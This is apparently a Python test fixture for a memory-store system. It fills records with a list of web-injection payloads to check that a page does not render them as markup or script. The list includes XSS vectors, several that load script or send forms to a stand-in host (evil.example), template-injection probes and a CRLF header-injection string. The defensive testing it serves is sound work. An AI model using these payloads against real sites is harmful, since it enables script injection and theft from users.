"""Texts that would have an effect if a page took them for markup, script or an address."""

from typing import Final

from supervisor_memory import Scope, SupervisorMemory
from supervisor_memory.audit.turns import given
from supervisor_memory.model.records import Considered, Hit, Record, Source, new_id
from supervisor_memory.stages.insert.review_reasons import REVIEW

__all__ = ["PAYLOADS", "attack"]

PAYLOADS: Final = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '"><script>alert(3)</script>',
    "<img src=x onerror=alert(4)>",
    "<img src=x onerror=alert`5`//",
    "<svg onload=alert(6)>",
    "<svg><script>alert(7)</script></svg>",
    "<svg><animate onbegin=alert(8) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(9)'><text y=20>x</text></a></svg>",
    "<math><mtext></mtext><mglyph><style><img src onerror=alert(10)></style></mglyph></math>",
    "<iframe src='javascript:alert(11)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(12)</script>'>",
    "<a href='javascript:alert(13)'>x</a>",
    "javascript:alert(14)",
    "data:text/html,<script>alert(15)</script>",
    '" autofocus onfocus=alert(16) x="',
    "' onmouseover='alert(17)",
    "` onclick=alert(18) `",
    "<body onload=alert(19)>",
    "<details open ontoggle=alert(20)>",
    "<video><source onerror=alert(21)></video>",
    "<form action=//evil.example><input type=submit></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(22)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<!--><img src=x onerror=alert(23)>-->",
    "</textarea><script>alert(24)</script>",
    "</title><script>alert(25)</script>",
    "</option></select><script>alert(26)</script>",
    "{{7*7}} ${7*7} #{7*7} {%print(7*7)%} {{config}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{user} {0.__class__} %s %(user)s",
    "&lt;script&gt;alert(27)&lt;/script&gt; &#60;script&#62;",
    "\u202e<script>alert(28)</script>\u2066 gnp.exe \u200f",
    "\ufeff<scr\u200bipt>alert(29)</scr\u200bipt>",
    "＜script＞alert(30)＜/script＞",
    "<scr<script>ipt>alert(31)</scr</script>ipt>",
    "<x onpointerrawupdate=alert(32) style=position:fixed>",
    "\r\nSet-Cookie: a=b\r\n\r\n<script>alert(33)</script>",
    "\x00<script>alert(34)</script>",
)


def attack(memory: SupervisorMemory) -> list[str]:
    """Write records with such a text in every field that takes one: active, waiting, deleted; returns their
    ids."""
    ids: list[str] = []
    for at, payload in enumerate(PAYLOADS):
        text = payload.replace("\x00", "").replace("\r", "")  # which no record can hold
        ids += [_kept(memory, text, at), _waiting(memory, text, at)]
    return ids


def _source(text: str) -> Source:
    return Source("tool", agent_id=text, session_id=text, run_id=text, speaker=text)


def _kept(memory: SupervisorMemory, text: str, at: int) -> str:
    metadata = {text: text, "use_when": text, "nested": {text: [text]}}
    record = Record(
        *(new_id(), ("domain_facts", "eve", text), f"{text} {at}", "domain-facts", 1.0 + at, 1.0 + at),
        metadata=metadata,
        tags=(text,),
        source=_source(text),
        subject=f"{text} {at}",
        attribute=text,
    )
    memory.backend.write([record])
    hit = Hit(record, 0.5, {text: 0.5, "relevance": 0.5})
    name = "".join(character for character in text if character.isprintable()).strip()
    scope = Scope("eve", name, name, f"run-{at}")
    told = given("inject", scope, at=1.0 + at, hits=[hit], dropped=[Considered(hit, text)], tokens=3)
    memory.backend.audit.record_access([told])
    return record.id


def _waiting(memory: SupervisorMemory, text: str, at: int) -> str:
    said = Record(
        *(new_id(), ("session_messages", "eve"), f"Said: {text} {at}", "task-traces", 1.0 + at, 1.0 + at),
        layer="history",
        source=_source(text),
    )
    asks = {"why": [text], "evidence": text}
    proposal = Record(
        *(new_id(), ("user_profile", "eve"), f"{text} waits {at}", "user-profile", 1.0 + at, 1.0 + at),
        status="pending",
        metadata={REVIEW: asks},
        tags=(text,),
        source=_source(text),
        ref_id=said.id,
    )
    memory.backend.write([said, proposal])
    return proposal.id
